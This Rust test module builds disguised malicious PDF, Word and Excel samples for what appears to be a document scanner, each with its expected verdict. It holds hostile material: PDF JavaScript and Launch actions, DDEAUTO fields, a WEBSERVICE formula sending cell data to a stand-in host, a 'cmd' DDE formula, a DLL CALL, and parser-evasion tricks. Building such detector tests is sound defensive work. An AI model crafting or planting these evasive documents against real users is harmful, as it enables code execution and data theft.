//! Documents that are harmless for one reader and not for another: what they do is where only some look for it.

use std::io::Write;

use super::documents::{
    DOCX, PDF, WORD, XLSX, archive, docx, docx_of, office, pdf_with, relationship, types, updated, workbook,
};

/// A document, its type, and why it is refused.
pub type Disguise = (&'static str, &'static str, Vec<u8>, &'static str);

const SCRIPT: &str = "<</Subtype/Widget/A<</S/JavaScript/JS(1)>>>>";

/// A PDF whose one page has a note, object 5, which lies in a packed stream: its dictionary, the list of what is in it,
/// and that itself.
pub fn pdf_packing(dictionary: &str, list: &str, members: &str) -> Vec<u8> {
    let mut bytes = b"%PDF-1.7\n".to_vec();
    let objects = [
        "<</Type/Catalog/Pages 2 0 R>>".to_owned(),
        "<</Type/Pages/Kids[3 0 R]/Count 1>>".to_owned(),
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Annots[5 0 R]>>".to_owned(),
        format!(
            "<<{dictionary}/First {}/Length {}>>stream\n{list}{members}\nendstream",
            list.len(),
            list.len() + members.len()
        ),
    ];
    let mut table = vec![0; 6];
    let mut entry = |sort: u8, place: usize| {
        table.push(sort);
        table.extend(u32::try_from(place).unwrap().to_be_bytes());
        table.push(0);
    };
    for (number, object) in objects.iter().enumerate() {
        entry(1, bytes.len());
        write!(bytes, "{} 0 obj\n{object}\nendobj\n", number + 1).unwrap();
    }
    entry(2, 4);
    let place = bytes.len();
    entry(1, place);
    let length = table.len();
    write!(
        bytes,
        "6 0 obj\n<</Type/XRef/Size 7/W[1 4 1]/Root 1 0 R/Length {length}>>stream\n"
    )
    .unwrap();
    bytes.extend(table);
    write!(bytes, "\nendstream\nendobj\nstartxref\n{place}\n%%EOF\n").unwrap();
    bytes
}

/// All of them.
pub fn all() -> Vec<Disguise> {
    [pdfs(), fields(), parts(), tables()].concat()
}

fn pdfs() -> Vec<Disguise> {
    let twice = format!("5 0 5 {} ", SCRIPT.len());
    let other_number = String::from_utf8(pdf_with("", "", &["<<>>"], "")).unwrap();
    // Whoever goes by lengths sees a stream, an object that was superseded, and another stream.
    let short = pdf_with(
        "",
        "",
        &[
            "<</Length 9>>stream\nendstream\nendstream",
            SCRIPT,
            "<</Length 1>>stream\na\nendstream",
        ],
        "",
    );
    vec![
        (
            "a script in a packed stream that does not say that it is one",
            PDF,
            pdf_packing("/N 1", "5 0 ", SCRIPT),
            "file_broken",
        ),
        (
            "a script that does not end",
            PDF,
            pdf_packing("/Type/ObjStm/N 1", "5 0 ", SCRIPT.trim_end_matches('>')),
            "file_broken",
        ),
        (
            "two objects with one number",
            PDF,
            pdf_packing("/Type/ObjStm/N 2", &twice, &format!("{SCRIPT}<</Subtype/Text>>")),
            "file_broken",
        ),
        (
            "an object that is not where it is said to be",
            PDF,
            pdf_packing("/Type/ObjStm/N 1", "9 0 ", SCRIPT),
            "file_broken",
        ),
        (
            "a key twice",
            PDF,
            pdf_packing(
                "/Type/ObjStm/N 1",
                "5 0 ",
                "<</Subtype/Link/A<</S/Launch/F(a.exe)/S/URI>>>>",
            ),
            "document_launches",
        ),
        (
            "an object under another number",
            PDF,
            other_number.replace("4 0 obj", "5 0 obj").into_bytes(),
            "file_broken",
        ),
        (
            "a script behind the end of a stream within the stream",
            PDF,
            updated(short, 5, "<<>>"),
            "file_broken",
        ),
    ]
}

fn fields() -> Vec<Disguise> {
    let begin = "<w:fldChar w:fldCharType=\"begin\"/>";
    let end = "<w:fldChar w:fldCharType=\"end\"/>";
    let says = |words: &str| format!("<w:instrText>{words}</w:instrText>");
    let field = |words: String| docx(&format!("{begin}{words}{end}"), &[]);
    let strange = "<x:fldChar xmlns:x=\"x\" w:fldCharType=\"end\"/>";
    let branch = format!(
        "<mc:AlternateContent xmlns:mc=\"mc\"><mc:Choice Requires=\"x\">{end}</mc:Choice></mc:AlternateContent>"
    );
    vec![
        (
            "two instructions",
            DOCX,
            docx(
                "<w:fldSimple xmlns:x=\"x\" x:instr=\"PAGE\" w:instr=\"DDEAUTO a b\"/>",
                &[],
            ),
            "file_broken",
        ),
        (
            "an end of another namespace's",
            DOCX,
            field(strange.to_owned() + &says("DDEAUTO a b")),
            "file_broken",
        ),
        (
            "an end for newer versions",
            DOCX,
            field(branch + &says("DDEAUTO a b")),
            "file_broken",
        ),
        (
            "an instruction of no field",
            DOCX,
            docx(&says("DDEAUTO a b"), &[]),
            "file_broken",
        ),
        (
            "an element in an instruction",
            DOCX,
            field(says("DD<x:a xmlns:x=\"x\"/>E a b")),
            "file_broken",
        ),
        (
            "an instruction to be read",
            DOCX,
            field("<w:t>DDE a b</w:t>".to_owned()),
            "document_loads_external",
        ),
        (
            "DDE and a tab",
            DOCX,
            field(says("DDEAUTO") + "<w:tab/>" + &says("a b")),
            "document_loads_external",
        ),
        (
            "DDE made up in part",
            DOCX,
            field(says("DD") + begin + &says("QUOTE 69") + end + &says(" a b")),
            "document_loads_external",
        ),
    ]
}

fn parts() -> Vec<Disguise> {
    let picture = types(DOCX).replace("/word/document.xml", "/word/document.png");
    let leads = |target: &str, modes: &str| {
        let entry = relationship("image", target, modes);
        docx("", &[("word/_rels/document.xml.rels", entry.as_bytes())])
    };
    let part = |content: &[u8]| docx("", &[("word/a.xml", content)]);
    vec![
        (
            "two modes",
            DOCX,
            leads(
                "http://a.vn/a.png",
                " xmlns:x=\"x\" x:TargetMode=\"Internal\" TargetMode=\"External\"",
            ),
            "file_broken",
        ),
        (
            "a prefix called like a mode",
            DOCX,
            leads("http://a.vn/a.png", " xmlns:TargetMode=\"x\" TargetMode=\"External\""),
            "file_broken",
        ),
        (
            "a picture with a text's type",
            DOCX,
            docx_of(&picture, "", &[("word/document.png", b"\x89PNG")]),
            "document_has_embedded_object",
        ),
        (
            "a type for all pictures",
            DOCX,
            docx_of(
                &types(DOCX).replace(
                    "<Override",
                    "<Default Extension=\"png\" ContentType=\"Text/XML; a=b\"/><Override",
                ),
                "",
                &[],
            ),
            "document_has_embedded_object",
        ),
        (
            "a text called a picture",
            DOCX,
            docx(
                "",
                &[("word/media/a.png", format!("<w:hdr xmlns:w=\"{WORD}\"/>").as_bytes())],
            ),
            "document_has_embedded_object",
        ),
        (
            "a text of two bytes a letter called a picture",
            DOCX,
            docx("", &[("word/media/a.png", b"\xff\xfe<\0a\0/\0>\0")]),
            "document_has_embedded_object",
        ),
        (
            "markup in letters of seven bits",
            DOCX,
            part(b"<?xml version=\"1.0\" encoding=\"UTF-7\"?><a>+ADw-w:fldSimple+AD4-</a>"),
            "file_broken",
        ),
        ("a zero", DOCX, part(b"<a b=\"\0\"/>"), "file_broken"),
        ("a prefix of no namespace", DOCX, part(b"<y:a/>"), "file_broken"),
    ]
}

fn tables() -> Vec<Disguise> {
    let formula = |words: &str| workbook(&format!("<sheetData><row><c><f>{words}</f></c></row></sheetData>"));
    let macros =
        "<Override PartName=\"/xl/a.xml\" ContentType=\"application/vnd.ms-excel.intlmacrosheet+xml\"/></Types>";
    let leads = relationship("xlMacrosheet", "a.xml", "");
    vec![
        (
            "a type of macros",
            XLSX,
            archive(&[(
                "[Content_Types].xml",
                types(XLSX).replace("</Types>", macros).as_bytes(),
            )]),
            "document_has_macros",
        ),
        (
            "a way to macros",
            XLSX,
            office(XLSX, "", &[("xl/_rels/workbook.xml.rels", leads.as_bytes())]),
            "document_has_macros",
        ),
        (
            "a sheet of macros",
            XLSX,
            office(XLSX, "", &[("xl/a.xml", b"<xm:macrosheet xmlns:xm=\"xm\"/>")]),
            "document_has_macros",
        ),
        (
            "a formula that asks a server",
            XLSX,
            formula("1+_xlfn.WEBSERVICE (\"http://a.vn/\"&amp;A1)"),
            "document_loads_external",
        ),
        (
            "the same in pieces, between names with quotation marks",
            XLSX,
            formula("'a\"b'!A1&amp;Web<!-- -->Serv<![CDATA[ice(\"u\")]]>&amp;'c\"d'!A1"),
            "document_loads_external",
        ),
        (
            "a function that is handed over",
            XLSX,
            formula("_xlfn.MAP(A1,_xleta.IMAGE)"),
            "document_loads_external",
        ),
        (
            "a name for a formula that asks a server",
            XLSX,
            workbook("<definedNames><definedName name=\"a\">RTD(\"a\",,\"b\")</definedName></definedNames>"),
            "document_loads_external",
        ),
        (
            "a formula that starts a program",
            XLSX,
            formula("cmd|&apos;/c calc&apos;!A0"),
            "document_loads_external",
        ),
        (
            "a formula that calls a library",
            XLSX,
            formula("CALL(\"a.dll\",\"b\",\"J\")"),
            "document_has_macros",
        ),
        (
            "an element in a formula",
            XLSX,
            formula("WEB<x:a xmlns:x=\"x\">b</x:a>SERVICE(\"http://a.vn\")"),
            "file_broken",
        ),
    ]
}
